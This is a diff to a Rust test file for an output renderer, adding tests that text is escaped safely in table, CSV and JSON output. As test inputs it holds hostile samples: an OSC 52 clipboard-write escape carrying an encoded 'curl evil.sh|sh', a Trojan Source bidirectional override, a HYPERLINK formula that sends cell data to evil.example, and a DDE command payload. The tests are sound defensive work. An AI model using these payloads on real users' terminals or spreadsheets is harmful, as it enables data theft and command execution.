@@ -149,6 +149,23 @@ fn table_shows_control_characters_escaped() {
 }
 
 #[test]
+fn table_shows_bidirectional_overrides_escaped() {
+    let columns = [Column::new("name", ColumnType::Text)];
+    let rows = [vec![text("ab\u{202E}cd")]];
+    assert_eq!(
+        render(Format::Table, false, &columns, &rows),
+        "\
+┌──────────────┐
+│ name         │
+├──────────────┤
+│ ab\\u{202e}cd │
+└──────────────┘
+1 row
+"
+    );
+}
+
+#[test]
 fn table_of_no_rows() {
     assert_eq!(
         render(Format::Table, false, &columns()[..2], &[]),
@@ -264,9 +281,79 @@ fn csv_quotes_what_it_must() {
     ];
     assert_eq!(
         render(Format::Csv, false, &columns, &rows),
-        "\"a,b\",c\n\"x\ry\",plain text\n\"\"\"\",'single'\n"
+        "\"a,b\",c\nx\\ry,plain text\n\"\"\"\",'single'\n"
     );
     assert_eq!(render(Format::Csv, false, &columns, &[]), "\"a,b\",c\n");
+}
+
+#[test]
+fn csv_text_can_neither_drive_a_terminal_nor_be_a_formula() {
+    let columns = [Column::new("name", ColumnType::Text)];
+    let cell = |s: &str| {
+        render(Format::Csv, false, &columns, &[vec![text(s)]])
+            .strip_prefix("name\n")
+            .unwrap()
+            .to_owned()
+    };
+    // OSC 52 (write the clipboard), a screen clear, C1 CSI, DEL.
+    assert_eq!(
+        cell("x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
+        "x\\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\\u{7}\n"
+    );
+    assert_eq!(
+        cell("a\x1b[2Jb\u{9b}31mc\x7f"),
+        "a\\u{1b}[2Jb\\u{9b}31mc\\u{7f}\n"
+    );
+    // A bidirectional override ("Trojan Source"); a mark stays.
+    assert_eq!(cell("Kévin\u{202E}fdp.exe"), "Kévin\\u{202e}fdp.exe\n");
+    assert_eq!(cell("\u{200F}Kévin"), "\u{200F}Kévin\n");
+    // Tabs and newlines are data: kept (the newline quoted); a lone CR is
+    // not.
+    assert_eq!(cell("a\tb"), "a\tb\n");
+    assert_eq!(cell("one\r\ntwo"), "\"one\ntwo\"\n");
+    assert_eq!(cell("one\rtwo"), "one\\rtwo\n");
+    // Formulas: OWASP's leading characters get a `'`.
+    assert_eq!(
+        cell("=HYPERLINK(\"https://evil.example/?\"&A1,\"Invoice\")"),
+        "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Invoice\"\")\"\n"
+    );
+    assert_eq!(cell("+33 6 12 34 56 78"), "'+33 6 12 34 56 78\n");
+    assert_eq!(cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0\n");
+    assert_eq!(cell("@SUM(1+1)"), "'@SUM(1+1)\n");
+    assert_eq!(cell("\t=1+1"), "'\t=1+1\n");
+    assert_eq!(cell("\r=1+1"), "'\\r=1+1\n");
+    assert_eq!(cell("a=1"), "a=1\n");
+    assert_eq!(cell(""), "\"\"\n");
+    // Numbers, money and dates are not text: as they are.
+    let columns = [
+        Column::new("n", ColumnType::Integer),
+        Column::new("total", ColumnType::Money),
+        Column::new("signed", ColumnType::Date),
+    ];
+    let day = NaiveDate::from_ymd_opt(2023, 6, 4).unwrap();
+    assert_eq!(
+        render(
+            Format::Csv,
+            false,
+            &columns,
+            &[vec![Cell::Integer(-3), money("-12.5"), Cell::Date(day)]]
+        ),
+        "n,total,signed\n-3,-12.50,2023-06-04\n"
+    );
+}
+
+#[test]
+fn json_strings_escape_every_control_character_and_read_back_exactly() {
+    let columns = [Column::new("name", ColumnType::Text)];
+    let value = "x\x1b]52;c;YQ==\x07\u{9b}2J\x7f\u{202E}\u{2066}=1+1\t\u{200F}é";
+    let out = render(Format::Json, false, &columns, &[vec![text(value)]]);
+    assert_eq!(
+        out,
+        "{\"name\":\"x\\u001b]52;c;YQ==\\u0007\\u009b2J\\u007f\\u202e\\u2066=1+1\\t\u{200F}é\"}\n"
+    );
+    assert!(!out.contains(|c: char| c.is_control() && c != '\n'));
+    let read: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(read["name"], value);
 }
 
 #[test]
